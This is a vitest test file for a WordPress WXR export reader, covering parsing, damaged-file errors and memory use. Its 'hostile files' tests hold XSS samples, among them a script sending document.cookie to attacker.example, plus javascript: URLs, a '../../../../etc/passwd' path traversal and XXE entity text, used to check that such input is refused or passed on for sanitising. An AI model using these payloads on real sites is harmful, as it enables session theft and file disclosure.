import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KiosqueError } from '../../errors.ts';
import { WxrNotWordpressError, WxrSyntaxError } from './wxr.errors.ts';
import { writeWxrFile } from './wxr.fixtures.ts';
import type { WxrAuthor, WxrEntry, WxrItem, WxrSite, WxrTerm } from './wxr.model.ts';
import { readWxr } from './wxr.reader.ts';

const FIXTURES = path.resolve(import.meta.dirname, '../../../test/fixtures/wordpress');
const fixture = (name: string) => path.join(FIXTURES, name);
const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'kiosque-wxr-'));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

async function readAll(file: string): Promise<WxrEntry[]> {
  const entries: WxrEntry[] = [];
  for await (const entry of readWxr(file)) entries.push(entry);
  return entries;
}

async function failure(file: string): Promise<unknown> {
  try {
    await readAll(file);
  } catch (error) {
    return error;
  }
  throw new Error(`${file} was read without an error`);
}

function scratchFile(name: string, text: string): string {
  const file = path.join(scratch, name);
  fs.writeFileSync(file, text);
  return file;
}

const items = (entries: WxrEntry[]) => entries.flatMap((entry) => (entry.kind === 'item' ? [entry.item] : []));
const terms = (entries: WxrEntry[]) => entries.flatMap((entry) => (entry.kind === 'term' ? [entry.term] : []));
const authors = (entries: WxrEntry[]) => entries.flatMap((entry) => (entry.kind === 'author' ? [entry.author] : []));
const item = (entries: WxrEntry[], id: number) => items(entries).find((candidate) => candidate.id === id)!;

describe('readWxr on a WordPress 6 export (blog-fr.xml)', () => {
  let entries: WxrEntry[] = [];
  beforeAll(async () => {
    entries = await readAll(fixture('blog-fr.xml'));
  });

  it('gives the site first, then authors, then terms, then items, in file order', () => {
    const kinds = entries.map((entry) => entry.kind);
    expect(kinds[0]).toBe('site');
    expect(kinds.filter((kind) => kind === 'site')).toHaveLength(1);
    expect(kinds.lastIndexOf('author')).toBeLessThan(kinds.indexOf('term'));
    expect(kinds.lastIndexOf('term')).toBeLessThan(kinds.indexOf('item'));
    expect(items(entries).map((entry) => entry.id)).toEqual([20, 21, 22, 23, 10, 11, 17, 12, 13, 14, 15, 16, 18, 30]);
  });

  it('reads the channel as the site, with entities decoded', () => {
    expect(entries[0]).toEqual({
      kind: 'site',
      site: {
        title: 'Le Blog Ecommerce',
        link: 'https://blog.example.fr',
        description: 'Ecommerce, SEO & SEA : l\'actualité des boutiques en ligne',
        language: 'fr-FR',
        baseSiteUrl: 'https://blog.example.fr',
        baseBlogUrl: 'https://blog.example.fr',
        wxrVersion: '1.2',
      },
    });
  });

  it('reads both authors', () => {
    expect(authors(entries)).toEqual<WxrAuthor[]>([
      { id: 1, login: 'claire', email: 'claire.martin@blog.example.fr', displayName: 'Claire Martin', firstName: 'Claire', lastName: 'Martin' },
      { id: 2, login: 'julien.dupont', email: 'julien@blog.example.fr', displayName: 'Julien Dupont', firstName: 'Julien', lastName: 'Dupont' },
    ]);
  });

  it('reads categories with their parent and description, tags, and other taxonomies', () => {
    const all = terms(entries);
    expect(all.map((term) => `${term.taxonomy}:${term.slug}`)).toEqual([
      'category:non-classe', 'category:ecommerce', 'category:hebergement', 'category:seo-sea', 'category:google-ads', 'category:emploi',
      'post_tag:ovh', 'post_tag:incendie', 'post_tag:data-center', 'post_tag:recrutement', 'post_tag:cout-par-clic',
      'post_format:post-format-gallery', 'nav_menu:menu-principal',
    ]);
    expect(all.find((term) => term.slug === 'hebergement')).toEqual<WxrTerm>({
      taxonomy: 'category', id: 4, slug: 'hebergement', name: 'Hébergement', parentSlug: 'ecommerce',
      description: 'Serveurs, data centers & hébergeurs : ce qui fait tenir une boutique.', meta: {},
    });
    expect(all.find((term) => term.slug === 'ecommerce')?.parentSlug).toBeUndefined();
    // WordPress stores a term's name HTML-escaped; a name is text.
    expect(all.find((term) => term.slug === 'seo-sea')?.name).toBe('SEO & SEA');
    expect(all.find((term) => term.slug === 'google-ads')).toMatchObject({ parentSlug: 'seo-sea', meta: { rank_math_description: 'Enchères, coût par clic et campagnes Shopping.' } });
    expect(all.find((term) => term.slug === 'data-center')).toMatchObject({ taxonomy: 'post_tag', id: 10, name: 'data center', description: 'Les centres de données et leur fiabilité.' });
    expect(all.find((term) => term.slug === 'menu-principal')).toMatchObject({ taxonomy: 'nav_menu', id: 14, name: 'Menu principal', parentSlug: undefined });
  });

  it('reads every field of a classic post, its terms, its meta (last wins) and where it starts', () => {
    const post = item(entries, 10);
    expect(post).toMatchObject<Partial<WxrItem>>({
      id: 10,
      postType: 'post',
      title: 'OVH : « On Vous Habitue » … aux incidents',
      link: 'https://blog.example.fr/2024/05/ovh-on-vous-habitue-aux-incidents/',
      guid: 'https://blog.example.fr/?p=10',
      slug: 'ovh-on-vous-habitue-aux-incidents',
      status: 'publish',
      creator: 'claire',
      excerpt: '',
      date: '2024-05-14T07:30:00.000Z',
      localDate: '2024-05-14 09:30:00',
      modified: '2024-05-20T16:05:12.000Z',
      parentId: 0,
      menuOrder: 0,
      isSticky: true,
      password: '',
      attachmentUrl: undefined,
      line: 273,
    });
    expect(post.terms).toEqual([
      { taxonomy: 'category', slug: 'ecommerce', name: 'Ecommerce' },
      { taxonomy: 'category', slug: 'hebergement', name: 'Hébergement' },
      { taxonomy: 'post_tag', slug: 'data-center', name: 'data center' },
      { taxonomy: 'post_tag', slug: 'incendie', name: 'incendie' },
      { taxonomy: 'post_tag', slug: 'ovh', name: 'OVH' },
    ]);
    expect(post.meta).toEqual({
      _edit_last: '1',
      _thumbnail_id: '20',
      _yoast_wpseo_title: 'OVH : « On Vous Habitue » aux incidents %%sep%% %%sitename%%',
      _yoast_wpseo_metadesc: 'Incendie du data center SBG2 : ce qui s’est passé, les manquements relevés et les recours des clients d’OVH.',
      _yoast_wpseo_focuskw: 'incendie OVH',
      _yoast_wpseo_primary_category: '4',
      _yoast_wpseo_content_score: '60',
    });
  });

  it('gives the content raw, as written between the CDATA markers, entities included', () => {
    const content = item(entries, 10).content;
    expect(content.startsWith('[caption id="attachment_20" align="aligncenter" width="300"]<img class="size-medium wp-image-20"')).toBe(true);
    expect(content).toContain('aux alentours d’1&nbsp;h du matin');
    expect(content).toContain('\n\n<!--more-->\n\n');
    expect(content).toContain('[gallery columns="2" link="file" size="medium" ids="21,22"]');
    expect(content).toContain('\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n');
    expect(content.endsWith('[contact-form-7 id="58" title="Contact rédaction"]')).toBe(true);
    const blocks = item(entries, 11).content;
    expect(blocks.startsWith('<!-- wp:paragraph -->\n<p>Le commerce en ligne')).toBe(true);
    expect(blocks).toContain('<!-- wp:gallery {"linkTo":"none"} -->');
    expect(blocks.endsWith('<!-- /wp:paragraph -->')).toBe(true);
  });

  it('reads threaded comments with their status, type, dates in UTC and meta', () => {
    const comments = item(entries, 10).comments;
    expect(comments.map((comment) => [comment.id, comment.parentId, comment.status, comment.type])).toEqual([
      [101, 0, 'approved', 'comment'],
      [102, 101, 'approved', 'comment'],
      [103, 102, 'approved', 'comment'],
      [104, 0, 'pending', 'comment'],
      [105, 0, 'spam', 'comment'],
      [106, 0, 'approved', 'pingback'],
      [107, 0, 'trash', 'comment'],
    ]);
    expect(comments[0]).toEqual({
      id: 101, parentId: 0, author: 'Sophie L.', authorEmail: 'sophie.l@example.net', authorUrl: 'https://boutique-sophie.example.net',
      date: '2024-05-14T09:02:33.000Z', localDate: '2024-05-14 11:02:33',
      content: 'Notre boutique était hébergée sur SBG2 : trois jours hors ligne, et une sauvegarde… dans la même salle.\nMerci pour ce dossier très complet !',
      status: 'approved', type: 'comment', userId: undefined, meta: {},
    });
    expect(comments[1]!.userId).toBe(1);
    // WordPress splits a CDATA section around "]]>": the two halves are one text again.
    expect(comments[2]!.content).toBe('Et les données des tableaux comme x[y[0]]> ont-elles été restaurées ?');
    expect(comments[4]!.meta).toEqual({ akismet_result: 'true' });
    expect(comments[6]!.meta).toEqual({ _wp_trash_meta_status: '0', _wp_trash_meta_time: '1715899600' });
    expect(item(entries, 11).comments[0]!.meta).toEqual({
      akismet_result: 'false',
      akismet_history: 'a:3:{s:4:"time";d:1716443100.123456;s:5:"event";s:10:"check-ham";s:4:"user";s:0:"";}',
    });
  });

  it('reads a block post’s Rank Math fields and custom excerpt', () => {
    const post = item(entries, 11);
    expect(post.excerpt).toBe('Ecommerce ou magasins : qui recrute vraiment ? Les chiffres de la Fevad et ce qu’ils cachent.');
    expect(post.meta).toMatchObject({
      _thumbnail_id: '23',
      rank_math_title: 'Emplois : l’ecommerce recrute-t-il plus que le retail ?',
      rank_math_canonical_url: 'https://www.partenaire.example/emplois-ecommerce-retail/',
      rank_math_robots: 'a:1:{i:0;s:5:"index";}',
    });
    expect(post.terms).toContainEqual({ taxonomy: 'post_format', slug: 'post-format-gallery', name: 'Galerie' });
    expect(item(entries, 17).meta).toMatchObject({ _yoast_wpseo_canonical: 'https://blog.example.fr/2024/05/ovh-on-vous-habitue-aux-incidents/', '_yoast_wpseo_meta-robots-noindex': '1' });
  });

  it('leaves a draft’s date undefined (its GMT date is 0000-00-00) and keeps its local date', () => {
    expect(item(entries, 12)).toMatchObject({ status: 'draft', slug: '', date: undefined, localDate: '2024-06-01 17:44:20', link: 'https://blog.example.fr/?p=12' });
    expect(item(entries, 12).meta).toEqual({ rank_math_robots: 'a:2:{i:0;s:7:"noindex";i:1;s:8:"nofollow";}' });
  });

  it('reads private, scheduled and password-protected posts, pages and their parent, and menu items', () => {
    expect(item(entries, 13).status).toBe('private');
    expect(item(entries, 14)).toMatchObject({ status: 'future', date: '2030-06-26T05:00:00.000Z' });
    expect(item(entries, 18).password).toBe('lecteurs2024');
    expect(item(entries, 15)).toMatchObject({ postType: 'page', slug: 'a-propos', parentId: 0, meta: { _wp_page_template: 'default', _yoast_wpseo_title: 'Qui sommes-nous ? La rédaction du Blog Ecommerce' } });
    expect(item(entries, 16)).toMatchObject({ postType: 'page', slug: 'equipe', parentId: 15, menuOrder: 1, link: 'https://blog.example.fr/a-propos/equipe/' });
    expect(item(entries, 30)).toMatchObject({ postType: 'nav_menu_item', title: '', terms: [{ taxonomy: 'nav_menu', slug: 'menu-principal', name: 'Menu principal' }] });
  });

  it('reads attachments: their file URL, parent, caption, description and metadata', () => {
    const image = item(entries, 20);
    expect(image).toMatchObject({
      postType: 'attachment', status: 'inherit', parentId: 10, slug: 'incendie-ovh',
      attachmentUrl: 'https://blog.example.fr/wp-content/uploads/2024/05/incendie-ovh.jpg',
      excerpt: 'Le data center SBG2 après l’incendie. Photo : Claire Martin',
      content: 'Le site SBG2 vu depuis le Rhin, au matin du 10 mars.',
    });
    expect(image.meta['_wp_attached_file']).toBe('2024/05/incendie-ovh.jpg');
    expect(image.meta['_wp_attachment_image_alt']).toBe('Façade noircie du data center SBG2 à Strasbourg');
    expect(image.meta['_wp_attachment_metadata']).toMatch(/^a:6:\{s:5:"width";i:480;s:6:"height";i:320;s:4:"file";s:24:"2024\/05\/incendie-ovh.jpg";/);
    for (const attachment of items(entries).filter((entry) => entry.postType === 'attachment')) {
      expect(fs.existsSync(path.join(FIXTURES, 'uploads', attachment.meta['_wp_attached_file']!))).toBe(true);
    }
  });
});

describe('readWxr on older and other exports', () => {
  it('reads a WXR 1.1 export without CDATA around slugs and dates', async () => {
    const entries = await readAll(fixture('wxr-1.1.xml'));
    expect(entries[0]).toMatchObject({ kind: 'site', site: { title: 'Carnet d’un libraire', wxrVersion: '1.1', baseBlogUrl: 'http://www.carnet-libraire.example/blog' } });
    expect(authors(entries)).toEqual([{ id: 1, login: 'admin', email: 'libraire@carnet-libraire.example', displayName: 'Hélène', firstName: 'Hélène', lastName: '' }]);
    expect(terms(entries).map((term) => [term.taxonomy, term.slug, term.parentSlug])).toEqual([
      ['category', 'non-classe', undefined], ['category', 'lectures', undefined], ['category', 'romans', 'lectures'], ['post_tag', 'rentree-litteraire', undefined],
    ]);
    const post = item(entries, 5);
    expect(post).toMatchObject({ title: 'L’édito de printemps', slug: 'ledito-de-printemps', date: '2012-03-05T09:00:00.000Z', modified: undefined, creator: 'admin', status: 'publish' });
    expect(post.terms).toEqual([{ taxonomy: 'category', slug: 'romans', name: 'Romans' }, { taxonomy: 'post_tag', slug: 'rentree-litteraire', name: 'rentrée littéraire' }]);
    // An empty comment type is a plain comment; a comment without GMT date keeps its local one.
    expect(post.comments.map((comment) => [comment.id, comment.type, comment.status, comment.date])).toEqual([
      [3, 'comment', 'approved', '2012-03-05T17:30:00.000Z'],
      [4, 'comment', 'approved', '2012-03-05 19:02:00'],
      [7, 'trackback', 'approved', '2012-03-06T07:00:00.000Z'],
    ]);
    expect(item(entries, 6)).toMatchObject({ postType: 'attachment', parentId: 5, meta: { _wp_attached_file: '2012/03/vitrine.jpg' } });
    expect(item(entries, 8)).toMatchObject({ status: 'draft', date: undefined, localDate: '2012-03-31 18:20:00' });
  });

  it('honours an ISO-8859-1 declaration and skips a UTF-8 byte order mark', async () => {
    const body = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Caf\u00e9</title></channel></rss>';
    const latin = path.join(scratch, 'latin1.xml');
    fs.writeFileSync(latin, Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>\n${body}`, 'latin1'));
    const bom = path.join(scratch, 'bom.xml');
    fs.writeFileSync(bom, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${body}`, 'utf8')]));
    for (const file of [latin, bom]) expect((await readAll(file))[0]).toMatchObject({ kind: 'site', site: { title: 'Café' } });
  });

  it('reads back what the fixture writer writes, field for field', async () => {
    const site: WxrSite = { title: 'Essai & co', link: 'https://essai.example', description: 'Un <essai>', language: 'fr-FR', baseSiteUrl: 'https://essai.example', baseBlogUrl: 'https://essai.example', wxrVersion: '1.2' };
    const post: WxrItem = {
      id: 7, postType: 'post', title: 'Un titre avec ]]> et <b>', link: 'https://essai.example/un-titre/', guid: 'https://essai.example/?p=7', slug: 'un-titre',
      status: 'publish', creator: 'admin', content: '<p>x]]>y</p>\n\n<!--more-->', excerpt: 'Résumé', date: '2024-02-29T23:59:59.000Z', localDate: '2024-03-01 00:59:59',
      modified: '2024-03-02T10:00:00.000Z', parentId: 0, menuOrder: 0, isSticky: true, password: '', attachmentUrl: undefined,
      terms: [{ taxonomy: 'category', slug: 'a-b', name: 'A & B' }], meta: { _thumbnail_id: '3' }, oldSlugs: ['un-ancien-titre', 'le-premier-titre'],
      comments: [{ id: 1, parentId: 0, author: 'Zoé', authorEmail: 'zoe@example.org', authorUrl: 'https://zoe.example/?a=1&b=2', date: '2024-03-01T08:00:00.000Z', localDate: '2024-03-01 09:00:00', content: 'Merci', status: 'pending', type: 'comment', userId: undefined, meta: { note: '5' } }],
      line: 0,
    };
    const file = path.join(scratch, 'round-trip.xml');
    writeWxrFile(file, { site, authors: [], terms: [], items: [post] });
    const entries = await readAll(file);
    expect(entries[0]).toEqual({ kind: 'site', site });
    const read = items(entries)[0]!;
    expect({ ...read, line: 0 }).toEqual(post);
  });
});

describe('readWxr on damaged files', () => {
  it('stops a truncated export with the line and column where it ends and the element left open', async () => {
    const error = await failure(fixture('truncated.xml'));
    expect(error).toBeInstanceOf(WxrSyntaxError);
    const syntax = error as WxrSyntaxError;
    expect(syntax).toMatchObject({ code: 'wxr_malformed', line: 547, column: 75, reasonCode: 'truncated' });
    expect(syntax.message).toBe(
      'The WordPress export is damaged at line 547, column 75: the file stops inside <content:encoded>, opened at line 497; it looks truncated, export it again. Nothing was imported.',
    );
    expect(syntax.publicMessage('fr')).toBe(
      'L’export WordPress est abîmé ligne 547, colonne 75\u00a0: le fichier s’arrête à l’intérieur de <content:encoded>, ouvert ligne 497\u202f; il semble tronqué, exportez-le à nouveau. Rien n’a été importé.',
    );
  });

  it('hands out nothing past the damage: the items before it were read, the one it cuts is not', async () => {
    const read: number[] = [];
    await expect(async () => {
      for await (const entry of readWxr(fixture('truncated.xml'))) if (entry.kind === 'item') read.push(entry.item.id);
    }).rejects.toThrow(WxrSyntaxError);
    expect(read).toEqual([20, 21, 22, 23, 10]);
  });

  it('stops at a mismatched closing tag with its line and column and the tag it should close', async () => {
    const error = (await failure(fixture('malformed.xml'))) as WxrSyntaxError;
    expect(error).toBeInstanceOf(WxrSyntaxError);
    expect(error).toMatchObject({ line: 32, column: 62, reasonCode: 'mismatched' });
    expect(error.publicMessage('fr')).toBe(
      'L’export WordPress est abîmé ligne 32, colonne 62\u00a0: cette balise fermante ne correspond pas à <wp:post_name>, ouvert ligne 32. Rien n’a été importé.',
    );
    expect(error.publicMessage('en')).toContain('this closing tag does not match <wp:post_name>, opened at line 32');
  });

  it('names an HTML entity outside CDATA and an empty file in plain words', async () => {
    const head = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>\n';
    const entity = (await failure(scratchFile('entity.xml', `${head}<title>Caf&eacute;</title></channel></rss>`))) as WxrSyntaxError;
    expect(entity).toMatchObject({ line: 2, reasonCode: 'entity' });
    expect(entity.publicMessage('fr')).toContain('une entité inconnue de XML');
    const empty = (await failure(scratchFile('empty.xml', ''))) as WxrSyntaxError;
    expect(empty).toMatchObject({ code: 'wxr_malformed', reasonCode: 'empty' });
    expect(empty.publicMessage('fr')).toBe('L’export WordPress est abîmé ligne 1, colonne 1\u00a0: le fichier est vide. Rien n’a été importé.');
  });

  it('points at a bare "&" itself, not at the next ";" nor at the end of the file, and says how to write it', async () => {
    const head = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>\n';
    // With no ";" after it, the parser reads the rest of the file as the entity's name.
    const inLink = (await failure(
      scratchFile('link.xml', `${head}<item><title>A &amp; B</title>\n\t\t<link>https://journal.example.fr/?a=1&b=2</link>\n</item></channel></rss>\n`),
    )) as WxrSyntaxError;
    expect(inLink).toBeInstanceOf(WxrSyntaxError);
    expect(inLink).toMatchObject({ line: 3, column: 40, reasonCode: 'ampersand' });
    expect(inLink.message).toBe(
      'The WordPress export is damaged at line 3, column 40: a bare "&" in <link>, where XML wants each "&" that starts no entity written "&amp;" (some WordPress plugins write such files); replace it with "&amp;" and import again. Nothing was imported.',
    );
    // A later ";" made the parser stop two lines further; an "&" in CDATA or a comment is text.
    const title = '<title>Le Journal & Cie</title>\n<description><![CDATA[Tom & Jerry]]></description><!-- R&D -->\n<wp:base_site_url>https://a.example/?x;y</wp:base_site_url>\n';
    const inTitle = (await failure(scratchFile('title.xml', `${head}<!-- Q&A -->${title}</channel></rss>`))) as WxrSyntaxError;
    expect(inTitle).toMatchObject({ line: 2, column: 31, reasonCode: 'ampersand' });
    expect(inTitle.publicMessage('fr')).toBe(
      'L’export WordPress est abîmé ligne 2, colonne 31\u00a0: un «\u00a0&\u00a0» seul dans <title>, là où XML veut que chaque «\u00a0&\u00a0» qui n’ouvre pas une entité s’écrive «\u00a0&amp;\u00a0» (certaines extensions WordPress écrivent de tels fichiers)\u202f; remplacez-le par «\u00a0&amp;\u00a0» et importez à nouveau. Rien n’a été importé.',
    );
  });

  it('says what a well-formed file lacks when it is not a WordPress export', async () => {
    const cases: [string, string, string][] = [
      ['feed.xml', '<?xml version="1.0"?><rss version="2.0"><channel><title>Flux</title><item><title>a</title></item></channel></rss>', 'namespace'],
      ['sitemap.xml', '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a.example/</loc></url></urlset>', 'rss'],
      ['page.html', '<!doctype html><html><body>Bonjour</body></html>', 'rss'],
      ['notes.txt', 'Ceci n’est pas du XML.', 'rss'],
      ['no-channel.xml', '<rss xmlns:wp="http://wordpress.org/export/1.2/"><item/></rss>', 'channel'],
    ];
    for (const [name, text, missing] of cases) {
      const error = await failure(scratchFile(name, text));
      expect(error, name).toBeInstanceOf(WxrNotWordpressError);
      expect((error as WxrNotWordpressError).missing, name).toBe(missing);
    }
    const feed = (await failure(path.join(scratch, 'feed.xml'))) as WxrNotWordpressError;
    expect(feed.publicMessage('fr')).toBe(
      `${path.join(scratch, 'feed.xml')} n’est pas un export WordPress\u00a0: il y manque l’espace de noms http://wordpress.org/export/ (xmlns:wp). Dans WordPress, utilisez Outils › Exporter › Tout le contenu. Rien n’a été importé.`,
    );
  });

  it('refuses a missing file or a folder with a sentence that names it', async () => {
    const missing = await failure(path.join(scratch, 'absent.xml'));
    expect(missing).toBeInstanceOf(KiosqueError);
    expect((missing as KiosqueError).publicMessage('fr')).toBe(`L’export WordPress ${path.join(scratch, 'absent.xml')} ne peut pas être lu\u00a0: fichier ou dossier introuvable.`);
    expect((missing as KiosqueError).message).toBe(`The WordPress export ${path.join(scratch, 'absent.xml')} cannot be read: no such file or folder.`);
    const folder = await failure(scratch);
    expect(folder).toMatchObject({ code: 'wxr_unreadable' });
    expect((folder as KiosqueError).publicMessage('fr')).toBe(`L’export WordPress ${scratch} ne peut pas être lu\u00a0: c’est un dossier, pas un fichier.`);
    expect(((await failure('/dev/null')) as Error).message).toBe('The WordPress export /dev/null cannot be read: it is not a regular file.');
  });
});

describe('readWxr on hostile files', () => {
  it('refuses an XXE DOCTYPE before anything is read, without expanding nor fetching it', async () => {
    const fetched: unknown[] = [];
    const realFetch = globalThis.fetch;
    globalThis.fetch = (...args: Parameters<typeof fetch>) => {
      fetched.push(args[0]);
      return Promise.reject(new Error('no outbound request in tests'));
    };
    const entries: WxrEntry[] = [];
    let error: unknown;
    try {
      for await (const entry of readWxr(fixture('hostile-xxe.xml'))) entries.push(entry);
    } catch (caught) {
      error = caught;
    } finally {
      globalThis.fetch = realFetch;
    }
    expect(error).toBeInstanceOf(KiosqueError);
    expect(error).toMatchObject({ code: 'wxr_doctype', params: { line: 6 } });
    expect((error as KiosqueError).publicMessage('fr')).toBe(
      'L’export WordPress déclare un DOCTYPE ligne 6\u00a0: WordPress n’en écrit jamais, et ses entités pourraient lire des fichiers du serveur ou épuiser sa mémoire. Fichier refusé, rien n’a été importé.',
    );
    expect(entries).toEqual([]);
    expect(fetched).toEqual([]);
    const passwd = fs.existsSync('/etc/passwd') ? fs.readFileSync('/etc/passwd', 'utf8').split('\n')[0]! : 'root:x:0:0';
    expect(JSON.stringify({ message: (error as Error).message, params: (error as KiosqueError).params })).not.toContain(passwd);
  });

  it('refuses a billion-laughs DOCTYPE in a blink and without growing memory', async () => {
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();
    const error = await failure(fixture('hostile-billion-laughs.xml'));
    expect(error).toMatchObject({ code: 'wxr_doctype', params: { line: 13 } });
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(20 * 1024 * 1024);
  });

  it('refuses a file that hides its DOCTYPE after a long prologue', async () => {
    const prologue = `<?xml version="1.0"?>\n<!-- ${'x'.repeat(2 * 1024 * 1024)} -->\n`;
    const error = await failure(scratchFile('late-doctype.xml', `${prologue}<!DOCTYPE rss [<!ENTITY a "b">]><rss xmlns:wp="http://wordpress.org/export/1.2/"><channel/></rss>`));
    expect(error).toBeInstanceOf(KiosqueError);
    expect((error as KiosqueError).code).toMatch(/^wxr_(doctype|not_wordpress)$/);
  });

  it('hands hostile content over as written, for the content conversion to neutralise', async () => {
    const entries = await readAll(fixture('hostile.xml'));
    const post = item(entries, 51);
    expect(post.title).toBe('Article piégé <script>alert("titre")</script>');
    expect(post.content).toContain('<script>document.location = "https://attacker.example/?c=" + document.cookie;</script>');
    expect(post.content).toContain('<a href="javascript:alert(\'lien\')">');
    // Text that looks like a declaration inside a CDATA section stays text.
    expect(post.content).toContain('&lt;!ENTITY xxe SYSTEM "file:///etc/passwd"&gt; &amp;xxe;');
    expect(post.meta['_yoast_wpseo_canonical']).toBe("javascript:alert('canonique')");
    expect(post.comments[0]!.authorUrl).toBe("javascript:alert('site du commentateur')");
    expect(item(entries, 50).meta['_wp_attached_file']).toBe('../../../../etc/passwd');
    expect(entries[0]).toMatchObject({ kind: 'site', site: { title: 'Blog <script>alert("titre")</script>' } });
    expect(terms(entries)[0]!.name).toBe('Piège <script>alert(1)</script>');
  });
});

/** The heap after a full collection, through V8's gc() exposed for this process only. */
function collectedHeap(): number {
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  gc();
  return process.memoryUsage().heapUsed;
}

describe('readWxr on a large export', () => {
  const count = 20_000;
  const file = path.join(scratch, 'large.xml');
  const paragraph = 'Le commerce en ligne progresse encore cette année selon la Fevad, porté par la livraison en point relais et le paiement fractionné. ';
  function* generated(): Generator<WxrItem> {
    for (let id = 1; id <= count; id++) {
      yield {
        id, postType: 'post', title: `Article numéro ${id}`, link: `https://blog.example.fr/2024/05/article-${id}/`, guid: `https://blog.example.fr/?p=${id}`,
        slug: `article-${id}`, status: 'publish', creator: 'claire', content: `<p>${paragraph.repeat(14)}${id}</p>`, excerpt: '',
        date: '2024-05-14T07:30:00.000Z', localDate: '2024-05-14 09:30:00', modified: undefined, parentId: 0, menuOrder: 0, isSticky: false,
        password: '', attachmentUrl: undefined, terms: [{ taxonomy: 'category', slug: 'ecommerce', name: 'Ecommerce' }], meta: { _edit_last: '1' }, oldSlugs: [],
        comments: [{ id: id * 10, parentId: 0, author: 'Lecteur', authorEmail: 'l@example.org', authorUrl: '', date: '2024-05-14T08:00:00.000Z', content: 'Merci !', status: 'approved', type: 'comment', userId: undefined }],
        line: 0,
      };
    }
  }

  let bytes = 0;
  beforeAll(() => {
    bytes = writeWxrFile(file, {
      site: { title: 'Gros blog', link: 'https://blog.example.fr', description: '', language: 'fr-FR', baseSiteUrl: 'https://blog.example.fr', baseBlogUrl: 'https://blog.example.fr', wxrVersion: '1.2' },
      authors: [], terms: [], items: generated(),
    });
  });

  it(`reads ${count.toLocaleString('en')} items one at a time, in memory that does not grow with the file`, async () => {
    expect(bytes).toBeGreaterThan(40 * 1024 * 1024);

    let seen = 0;
    let lastId = 0;
    let heapEarly = 0;
    let heapLate = 0;
    let progress = { read: 0, total: 0 };
    let readWhenFirstItemArrived = 0;
    for await (const entry of readWxr(file, { onProgress: (read, total) => (progress = { read, total }) })) {
      if (entry.kind !== 'item') continue;
      seen++;
      expect(entry.item.id).toBe(lastId + 1);
      lastId = entry.item.id;
      if (seen === 1) readWhenFirstItemArrived = progress.read;
      if (seen === 2_000) heapEarly = collectedHeap();
      if (seen === count - 10) heapLate = collectedHeap();
    }
    expect(seen).toBe(count);
    expect(progress).toEqual({ read: bytes, total: bytes });
    // Back-pressure: the first item is handed out after one chunk, not after the whole file.
    expect(readWhenFirstItemArrived).toBeLessThanOrEqual(128 * 1024);
    // Holding what was read would add the file's 40 MB and more; reading it adds next to nothing.
    expect(heapLate - heapEarly).toBeLessThan(8 * 1024 * 1024);
  });

  it('hands out strings that do not keep the file in memory when an importer keeps them', async () => {
    // Links are 40 characters or more: each kept as a view into the chunk it was cut from would
    // keep that chunk, and all of them the whole file.
    const kept: string[] = [];
    const before = collectedHeap();
    for await (const entry of readWxr(file)) if (entry.kind === 'item') kept.push(entry.item.link, entry.item.guid, entry.item.terms[0]!.slug);
    const after = collectedHeap();
    expect(kept).toHaveLength(count * 3);
    // 60,000 short strings are a few MB; the 40 MB file would be ten times that.
    expect(after - before).toBeLessThan(12 * 1024 * 1024);
  });
});
